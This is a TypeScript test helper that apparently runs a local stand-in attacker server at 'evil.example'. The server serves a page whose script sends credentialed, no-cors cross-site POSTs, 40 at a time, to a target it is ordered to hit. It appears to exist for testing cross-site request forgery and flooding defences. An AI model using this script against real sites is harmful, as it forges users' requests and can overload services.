import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** What the page is to send: each body in turn, `%N` in it a number of its own, 40 at a time. */
export interface Order {
  count: number;
  url: string;
  bodies: readonly string[];
}

/** A page of another site, which sends what its own server orders and cannot read an answer. */
const page = `<!doctype html><title>elsewhere</title><script>
const flood = async ({ count, url, bodies }) => {
  let next = 0;
  const one = async () => {
    while (next < count) {
      const index = next++;
      try {
        await fetch(url, {
          method: 'POST',
          mode: 'no-cors',
          credentials: 'include',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: bodies[index % bodies.length].replace('%N', index),
        });
      } catch {}
    }
  };
  await Promise.all(Array.from({ length: 40 }, one));
};
(async () => {
  for (;;) {
    const order = await (await fetch('/order')).json();
    await flood(order);
    await fetch('/done', { method: 'POST' });
  }
})();
</script>`;

export interface Evil {
  /** At a name that is no loopback one; the browser is told where it is. */
  origin: string;
  /** Has the page send; over when all is sent. */
  flood(order: Order): Promise<void>;
  close(): Promise<void>;
}

export const evilHost = 'evil.example';

export async function startEvil(): Promise<Evil> {
  let placed: (order: Order) => void = () => undefined;
  let order = new Promise<Order>((resolve) => (placed = resolve));
  let done: () => void = () => undefined;
  const server = createServer((request, response) => {
    if (request.url === '/order') {
      void order.then((one) => {
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end(JSON.stringify(one));
      });
    } else if (request.url === '/done') {
      order = new Promise<Order>((resolve) => (placed = resolve));
      response.end();
      done();
    } else {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(page);
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://${evilHost}:${port}`,
    flood: (one) =>
      new Promise((resolve) => {
        done = resolve;
        placed(one);
      }),
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
